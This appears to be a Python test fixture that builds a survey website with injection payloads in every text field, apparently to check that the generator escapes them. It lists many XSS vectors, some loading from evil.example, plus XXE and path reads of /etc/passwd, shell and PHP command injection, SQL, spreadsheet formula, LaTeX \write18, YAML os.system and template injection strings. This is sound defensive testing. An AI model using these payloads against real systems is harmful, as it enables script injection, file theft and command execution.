# ruff: noqa: E501
"""Hostile text that is legal content, and one survey that holds all of it in every field that takes text.

Each text ends in a mark of its own, so that it can be found where it is shown. Whatever runs calls ``pwned``.
"""

import hashlib
import json
from pathlib import Path
from typing import Any

from livingsurvey.build.mkdocs_site import build_site
from livingsurvey.build.pipeline import generate
from livingsurvey.checks import RULES
from livingsurvey.checks.rule import ERROR

from tests.browser.sites import general_config
from tests.build.repositories import commit
from tests.builders import survey_folder

FAR = "https://evil.example"  # a request to it would be told

#: One line each: for every field.
TEXTS = {
    "script": "<script>pwned()</script>",
    "script-far": f"<script src={FAR}/a.js></script>",
    "script-end": "</script><script>pwned()</script>",
    "script-split": "<scr<script>ipt>pwned()</scr</script>ipt>",
    "script-capitals": "<ScRiPt >pwned()</sCrIpT>",
    "script-open": f"<script src={FAR}/a.js",
    "image": "<img src=x onerror=pwned()>",
    "image-far": f"<img src={FAR}/a.png>",
    "image-slashes": "<img/src=x/onerror=pwned()>",
    "image-quotes": "\"><img src=x onerror=pwned()>",
    "image-apostrophe": "'><img src=x onerror=pwned()>",
    "image-set": f"<img srcset='{FAR}/a.png 1x'>",
    "drawing": "<svg onload=pwned()><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "drawing-script": "<svg><script>pwned()</script></svg>",
    "drawing-animate": "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "drawing-foreign": "<svg><foreignObject><iframe onload=pwned()></foreignObject></svg>",
    "mathematics": "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
    "frame": f"<iframe src={FAR}></iframe>",
    "frame-script": "<iframe src=javascript:pwned()></iframe>",
    "frame-document": "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "object": f"<object data={FAR}></object><embed src={FAR}>",
    "base": f"<base href={FAR}/>",
    "link": f"<link rel=stylesheet href={FAR}/a.css>",
    "preload": f"<link rel=preload as=script href={FAR}/a.js>",
    "style": f"<style>@import '{FAR}/a.css'; * {{ display: none }}</style>",
    "style-attribute": f"<b style=background:url({FAR}/a.png)>x</b>",
    "meta": f"<meta http-equiv=refresh content='0;url={FAR}'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "form": f"<form action={FAR}><input name=q autofocus onfocus=pwned()>",
    "clobbering": "<form id=search-input name=survey><input name=attributes><img name=body></form>",
    "details": "<details open ontoggle=pwned()><summary>x</summary></details>",
    "video": f"<video src={FAR}/a.mp4 onerror=pwned() autoplay></video><audio src={FAR}/a.mp3 autoplay>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "template-element": "<template><img src=x onerror=pwned()></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "title-end": "</title><script>pwned()</script>",
    "style-end": "</style></textarea></noscript></template><script>pwned()</script>",
    "body-end": "</p></div></article></body></html><script>pwned()</script>",
    "comment": "<!-- x",
    "comment-end": "--><script>pwned()</script>",
    "comment-script": "<!--<script>",
    "conditional-comment": "<!--[if true]><script>pwned()</script><![endif]-->",
    "cdata": "]]><script>pwned()</script><![CDATA[",
    "doctype": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;",
    "instruction": "<?xml-stylesheet href='javascript:pwned()'?><?php system('id') ?>",
    "entities": "&lt;script&gt;pwned()&lt;/script&gt; &amp;lt;b&amp;gt;",
    "entities-numbers": "&#60;script&#62;pwned()&#x3c;/script&#x3e;",
    "entities-open": "&#60script&#62 &ltscript&gt &unknown; &#0; &#xD800; &#99999999;",
    "attribute": "\" onmouseover=\"pwned()\" x=\"",
    "attribute-apostrophe": "' onmouseover='pwned()' x='",
    "attribute-backquote": "` onmouseover=`pwned()` x=`",
    "attribute-focus": "\" autofocus onfocus=pwned() tabindex=0 x=\"",
    "javascript": "javascript:pwned()",
    "javascript-link": "[x](javascript:pwned())",
    "javascript-reference": "[x]: javascript:pwned() [x]",
    "javascript-autolink": "<javascript:pwned()>",
    "javascript-entities": "[x](java&#115;cript:pwned()) [x](java&Tab;script:pwned())",
    "data-link": "[x](data:text/html,<script>pwned()</script>)",
    "markdown-image": f"![x]({FAR}/a.png) ![x](index.md \"onerror=pwned()\")",
    "markdown-html": "**<b onclick=pwned()>x</b>** `<img src=x onerror=pwned()>`",
    "attribute-list": "{: onclick=pwned() } {:onclick=pwned()} {#id .class onclick=pwned()}",
    "attribute-list-link": "[x](index.md){: onclick=pwned() }",
    "contents": "[TOC] [toc] [[toc]] ::: x",
    "abbreviation": "*[HTML]: x [^1]: x [^1]",
    "snippet": "--8<-- '/etc/passwd' {!/etc/passwd!} {% include '/etc/passwd' %}",
    "markdown-signs": "# a ## b > c * d _e_ `f` | g ~ h ^i^ ==j== +k+ \\ l - - - *** ___ 1. m",
    "backquotes": "a ` b `` c ``` d",
    "table": "| a | b | |--|--| <td onclick=pwned()>",
    "template": "{{ config }} {{ 7*7 }} {{ ''.__class__.__mro__ }}",
    "template-block": "{% for a in config %}{{ a }}{% endfor %} {# x #}",
    "template-others": "${7*7} #{7*7} <%= 7*7 %> {{{x}}} {{constructor.constructor('pwned()')()}} [[${7*7}]]",
    "markup": "Markup('<b>') |safe %s {0} {0.__class__} %(x)s",
    "front-matter": "--- title: x --- ... %YAML 1.2 !!python/object/apply:os.system [id]",
    "front-matter-quote": "\" page_kind: x scripts: [../../evil]",
    "lines": "a\u2028---\u2029scripts: [evil]\u0085---\x0b---\x0c---",
    "control": "a\u0000b\u0001c\u0008d\u001be\u007ff\u0080g\u009bh",
    "terminal": "\u001b[2J\u001b]0;x\u0007\u001b]8;;https://evil.example\u0007x",
    "bidi": "a \u202e\u2066 b \u2069 c \u200f d \u061c e \u202d f",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "tag-letters": "a\U000e0041\U000e0042\U000e007fb",
    "not-characters": "a\ufffeb\U0001fffec\ufdd0d\ufffde",
    "combining": "a" + "\u0301" * 60 + "b",
    "astral": "\U0001f600\U0001f468\u200d\U0001f469 \U00010348 \u1e9e \u0130",
    "json-script": "</script\u2028>\u2029<!--<script> \\u003c/script\\u003e \\ \" '",
    "prototype": "__proto__",
    "constructor": "constructor",
    "to-string": "toString valueOf hasOwnProperty __defineGetter__",
    "object-words": "[object Object] NaN undefined null true",
    "formula-equals": "=HYPERLINK(\"https://evil.example\")",
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)",
    "formula-wide": "＝1+1 ＠x",
    "formula-tab": "\t=1+1",
    "formula-cell": "a;=1+1;@x,=1+1",
    "formula-quote": "\",=1+1,\" ;\"=1+1",
    "bibtex": "}, author = {x}} @article{evil, title={x}",
    "bibtex-open": "{{{ \\} \\{ % # @string{a=b} @preamble{\"\\write18{id}\"}",
    "latex": "\\input{/etc/passwd} \\write18{id} \\def\\a{\\a}\\a ^^5c $x$ \\catcode`\\@=0",
    "latex-formula": "$\\href{javascript:pwned()}{x}$ $\\input{/etc/passwd}$ $</math><script>pwned()</script>$",
    "latex-styles": "\\textbf{<script>pwned()</script>} $\\text{<img src=x onerror=pwned()>}$ $\\unicode{x3c}$",
    "ris": "x ER  - TY  - JOUR AU  - Evil",
    "address": "https://evil.example/\"onclick=pwned() https://evil.example/<script> http://[::1 https://",
    "address-user": "https://a.org@evil.example/x https://evil.example:99999/ //evil.example",
    "citation": "[@nobody] [@../up] [@a; @b",
    "mention": "@everyone #1 GH-1 a@b.org ::set-output name=a::b ::error::x",
    "path": "../../../../etc/passwd /etc/passwd C:\\con ..\\..\\x file:///etc/passwd",
    "shell": "$(touch pwned) `touch pwned`; touch pwned | cat && true",
    "sql": "'; DROP TABLE papers; --",
    "percent": "%3Cscript%3Epwned()%3C/script%3E %0d%0aX: y %00 %",
    "css": "x;} body{display:none} /* \\3c ",
    "long-word": "w" * 3000,
    "many-words": "a " * 1500,
}  # fmt: skip

#: Several lines: for abstracts and prose.
BLOCKS = {
    "paragraphs": "<div>\n\n<script>pwned()</script>\n\n</div>",
    "html-block": "<script>\npwned()\n</script>\n\n<img src=x\nonerror=pwned()>",
    "front-matter": "---\ntitle: x\nscripts: [evil]\n---\n# x",
    "comment": "<!--\n\n<b>\n\n-->",
    "code": "```html onclick=pwned()\n<script>pwned()</script>\n```\n\n~~~{: onclick=pwned() }\nx\n~~~\n\n    <script>pwned()</script>",
    "reference": f"[x]\n\n[x]: javascript:pwned()\n\n[y]\n\n[y]: {FAR} 'a\" onclick=pwned() b=\"'",
    "attribute-list": "## A heading {: onclick=pwned() }\n\nText.\n{: onclick=pwned() }\n\n- x\n{: onclick=pwned() }",
    "markdown-in-html": "<div markdown=1 onclick=pwned()>\n\n**x**\n\n</div>",
    "backquotes-in-titles": "[x](https://a.org \"A\\`\") onclick=pwned() [y](https://a.org \"\\`onfocus=pwned() \")",
    "titles": "[x](https://a.org '\" onclick=pwned() \"') [y](<https://a.org/\" onclick=pwned()>)",
    "addresses": "[a](JaVaScRiPt:pwned()) [b](&#106;avascript:pwned()) [c](vbscript:x) [d](data:image/png;base64,AAAA) "
    "[e](ms-msdt:/id) [f](blob:x) [g](file:///etc/passwd) <javascript:pwned()> <ms-word:x>",
    "images": f"![x]({FAR}/a.png) ![y][z]\n\n[z]: {FAR}/b.png",
    "table": "| a | <script>pwned()</script> |\n|--|--|\n| <img src=x onerror=pwned()> | `|` {: onclick=pwned() } |",
    "contents": "[TOC]\n\n[[_TOC_]]\n\n*[x]: y\n\n[^1]: z",
    "nested": ">" * 200 + " x\n\n" + "".join(" " * n + "- x\n" for n in range(0, 120, 2)),
    "emphasis": "*" * 2000 + "a" + "_" * 2000,
    "brackets": "[" * 2000 + "](" * 500,
    "dollars": "$" * 2000 + " " + "$a" * 500,
    "braces": "{" * 3000 + "\\textbf{" * 500,
    "template": "{% raw %}\n{{ config }}\n{% endraw %}\n{% extends '/etc/passwd' %}",
}  # fmt: skip

#: What a rule finds is left out of a build where it is an error; here everything has to be shown.
_LOWERED = {"level": "advice", "reason": "What is left out cannot be looked at."}
_VOCABULARIES = ("kinds", "reasons", "measures", "benchmarks", "models", "methods")


def mark(name: str) -> str:
    """A word that only this case holds."""
    return "zq" + hashlib.sha256(name.encode()).hexdigest()[:10].translate(str.maketrans("0123456789", "ghijklmnop"))


def line(name: str) -> str:
    """A hostile text of one line with its mark."""
    return f"{TEXTS[name]} {mark(name)}"


def _front(fields: dict[str, Any], body: str = "") -> str:
    """A file whose front matter is written as JSON, which is YAML too, one field a line."""
    lines = "".join(f"{name}: {_yaml(value)}\n" for name, value in fields.items())
    return f"---\n{lines}---\n{body}"


def _yaml(value: Any) -> str:
    text = json.dumps(value)
    for sign in {sign for part in _texts(value) for sign in part if ord(sign) > 0xFFFF}:
        text = text.replace(json.dumps(sign)[1:-1], f"\\U{ord(sign):08x}")  # YAML knows no pairs of surrogates
    return text


def _texts(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    values = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
    return [text for part in values for text in _texts(part)]


def _paper(name: str, number: int) -> str:
    text = line(name)
    return _front(
        {
            "title": text,
            "authors": [text, f"{text} Jr", "Ada Lovelace"],
            "published": f"{2015 + number % 10}-0{1 + number % 9}",
            "venue": text,
            "code": ["https://github.com/a/b"],
            "links": [{"label": text, "url": "https://a.org/x"}],
            "status": "included",
            "kind": f"kinds-{number}",
            "topics": [f"topic-{number % 8}", "constructor"],
            "summary": text,
            "benchmarks": [text],
            "models": [text],
            "methods": [text, f"unlisted {text}"],
            "claims": [
                {
                    "quote": text,
                    "measure": "constructor" if number % 7 == 0 else f"measures-{number}",
                    "change": {"form": "level", "value": 1e300 if number % 5 == 0 else -0.5, "unit": text},
                    "against": text,
                    "on": text,
                }
            ],
            "abstract": f"{text}\n{text} See https://a.org/{number} and {TEXTS[name]}.",
            "published_abstract": f"Published: {text}" if number % 2 else None,
            "seen": [{"source": "listing", "rank": number + 1, "line": number + 1}],
            "provenance": {"venue": {"file": text, "line": 1}},
        },
        f"{text}\n",
    )


def _readings(number: int, name: str) -> str:
    """Two readings of the kind of a paper, which differ, one that settles it, and one of its claim."""
    text = line(name)
    common = {"paper": f"text-{number}", "field": "kind", "date": "2024", "quote": text, "note": text}
    rows = [common | {"reader": f"{text} {n}", "value": f"kinds-{number + n}", "settles": n == 2} for n in range(3)] + [
        common | {"claim": text, "field": "measure", "value": "constructor", "reader": text}
    ]
    return "".join(json.dumps(row) + "\n" for row in rows)


def _block(name: str) -> str:
    text = f"{BLOCKS[name]}\n\n{mark(name)}"
    return _front(
        {
            "title": f"Block {name}",
            "status": "included",
            "topics": ["topic-0"],
            "abstract": text,
            "published_abstract": text,
        },
        f"{text}\n",
    )


def _topic(name: str, number: int) -> dict[str, str]:
    area, text = f"area-{number % 3}", line(name)
    start = [{"key": f"text-{n}", "why": text} for n in range(number, number + 3)]
    fields = {"title": text, "parent": area, "summary": text, "next_door": text, "start_here": start}
    return {f"topic-{number}": _front(fields, f"{text}\n\n[@text-{number}; @nobody-at-all] {text}\n\n{_all_blocks()}")}


def _all_blocks() -> str:
    return "\n\n".join(f"{text}\n\n{mark(name)}" for name, text in BLOCKS.items() if name not in ("comment", "code"))


def _terms(vocabulary: str) -> str:
    terms = [
        {"id": f"{vocabulary}-{n}", "name": line(name), "definition": line(name), "synonyms": [f"also {line(name)}"]}
        | (_work(name, n) if vocabulary == "methods" else {})
        for n, name in enumerate(TEXTS)
    ]
    return "".join(f"- {_yaml(term)}\n" for term in terms)


def _work(name: str, n: int) -> dict[str, Any]:
    """Where a work is: in this survey, or elsewhere."""
    if n % 3 == 0:
        return {"paper": f"text-{(n + 1) % len(TEXTS)}"}
    reference = {"title": line(name), "authors": [line(name)] * (n % 5), "year": 2019, "doi": "10.1000/<a>&b"}
    return {"reference": reference | {"source": "https://a.org/?a=1&b=(2)"}}


def _statements(kind: str) -> str:
    """A statement of every text, which quotes three papers."""
    texts = {"consensus": "statement", "disagreements": "about", "questions": "question"}
    listed = []
    for n, name in enumerate(TEXTS):
        keys = [f"text-{(n + m) % len(TEXTS)}" for m in range(3)]
        quoted = [{"paper": key, "quote": line(name)} for key in keys]
        one: dict[str, Any] = {"id": f"{kind}-{n}", "topics": [f"topic-{n % 8}"], texts[kind]: line(name)}
        if kind == "consensus":
            one |= {"support": quoted, "dissent": quoted[:1], "date": "2024-01-02"}
        elif kind == "disagreements":
            one |= {
                "sides": [quote | {"says": line(name)} for quote in quoted],
                "why": line(name),
                "date": "2024-01-02",
            }
        else:
            one |= {"why": line(name), "support": quoted, "asked": "2023-01-02", "checked": "2023-01-02"}
        listed.append(one)
    return "".join(f"- {_yaml(one)}\n" for one in listed)


def _settings() -> str:
    every = " ".join(line(name) for name in TEXTS if not name.startswith(("long", "many")))
    example = [{"title": every, "why": every}]
    scope = {"statement": every, "included": example, "excluded": example, "borderline": example}
    fields: dict[str, Any] = {"name": line("script-end"), "tagline": every, "description": every, "scope": scope}
    fields |= {"repository": "https://github.com/a/b", "branch": "main/../<script>?x#y", "licence": every}
    fields |= {"editors": [{"name": line("bibtex"), "url": "https://a.org/"}], "reading": every, "limits": [every]}
    fields["rules"] = {
        name: _LOWERED for name, one in RULES.items() if one.doc.severity == ERROR and one.doc.adjustable
    }
    return "".join(f"{name}: {_yaml(value)}\n" for name, value in fields.items())


def _source() -> dict[str, Any]:
    every = " ".join(line(name) for name in TEXTS if not name.startswith(("long", "many")))
    fixed = {"id": "listing", "file": "listing.txt", "format": "hf-daily-papers-text", "sha256": "0" * 64}
    return fixed | {"origin": every, "note": every}


def build_hostile(root: Path) -> Path:
    """Write the survey, commit it, so that there are dates and feeds, and build it as ``survey build`` does."""
    papers = {f"text-{n}": _paper(name, n) for n, name in enumerate(TEXTS)}
    papers |= {f"block-{name}": _block(name) for name in BLOCKS}
    papers["constructor"] = _front(
        {"title": "Constructor", "aliases": ["prototype"], "status": "included", "abstract": "A."}
    )
    survey_folder(root, papers)
    content = root / "content"
    for n, name in enumerate(TEXTS):
        for key, text in _topic(name, n).items() if n < 8 else ():
            (content / f"topics/{key}.md").write_text(text)
        (content / f"pages/page-{n}.md").write_text(_front({"title": line(name)}, f"{line(name)}\n"))
    for name, text in BLOCKS.items():
        (content / f"pages/block-{name}.md").write_text(_front({"title": name}, f"{text}\n\n{mark(name)}\n"))
    (content / "pages/about.md").write_text(_front({"title": "About"}, _all_blocks()))
    for n, name in enumerate(("script-end", "attribute", "template")):
        (content / f"topics/area-{n}.md").write_text(_front({"title": line(name), "summary": line(name)}, line(name)))
    (content / "topics/constructor.md").write_text(_front({"title": "T", "parent": "area-0", "summary": "S."}))
    (content / "vocabulary").mkdir()
    for vocabulary in _VOCABULARIES:
        (content / f"vocabulary/{vocabulary}.yml").write_text(_terms(vocabulary))
    (content / "readings").mkdir()
    (content / "readings/r.jsonl").write_text("".join(map(_readings, range(len(TEXTS)), TEXTS)))
    (content / "statements").mkdir()
    for kind in ("consensus", "disagreements", "questions"):
        (content / f"statements/{kind}.yml").write_text(_statements(kind))
    (content / "survey.yml").write_text(_settings())
    (content / "sources/sources.yml").write_text(f"- {_yaml(_source())}\n")
    (root / "mkdocs.yml").write_text(general_config())
    (root / ".gitignore").write_text("build/\nsite/\n")
    commit(root, 1_700_000_000)
    outcome = generate(root)
    assert outcome.survey is not None
    assert not [f for f in outcome.findings if f.rule in ("schema", "yaml", "file", "front-matter")], outcome.findings[
        :3
    ]
    build_site(root)
    return root
